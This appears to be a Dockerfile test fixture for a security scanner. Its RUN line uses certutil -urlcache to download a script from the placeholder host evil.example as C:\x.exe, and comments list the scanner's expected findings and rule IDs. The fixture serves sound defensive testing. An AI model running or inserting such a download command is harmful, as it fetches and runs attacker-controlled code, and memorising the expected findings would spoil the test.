FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN certutil -urlcache -split -f https://evil.example/x.sh C:\x.exe
USER app
# expect: download 2 high "certutil -urlcache fetches https://evil.example/x.sh"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-538b11beb2 VR501-e064bac1a6
